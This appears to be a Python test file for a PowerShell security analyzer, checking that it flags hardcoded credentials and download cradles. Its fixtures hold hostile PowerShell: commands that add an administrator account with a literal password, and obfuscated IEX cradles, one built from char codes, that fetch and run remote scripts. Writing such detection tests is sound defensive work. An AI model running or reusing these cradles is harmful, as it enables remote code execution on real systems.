"""Focused cases for what the blind3e corpus (admin scripts, PowerShell 7, tradecraft) found: one test per
fixed miss or false finding, each with a near miss that must stay as it was. (Its comma lists that go on with bare
words after an expression are in test_command_lists.py.)"""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_a_native_tools_literal_password_is_reported_in_a_script_that_names_no_secret() -> None:
    result = analyze("""
        $u = 'helpdesk_adm'
        net user $u 'Rdp#Access2024' /add /expires:never
        schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru CORP\\svc_sync /rp Sync!2024x
        net user $u * /add
        net localgroup Administrators $u /add
        schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru SYSTEM
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [2, 3]


def test_a_cradle_string_run_by_invoke_expression_is_a_cradle_even_after_the_command_name() -> None:
    result = analyze("""
        $k = [string]::new([char[]](73, 69, 88, 32, 40, 78, 101, 119, 45, 79, 98, 106, 101, 99, 116, 32, 78, 101, 116, 46, 87, 101, 98, 67, 108, 105, 101, 110, 116, 41))
        $tail = '.DownloadString(''http://185.220.101.7/a.ps1'')'
        &($ShellId[1] + $ShellId[13] + 'x') ($k + $tail)
        iex 'IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.9/b.ps1'')'
        iex '(New-Object Net.WebClient).DownloadString(''http://203.0.113.9/version.txt'')'
    """)
    assert lines_of(result, "PSDownloadCradle") == [3, 4]
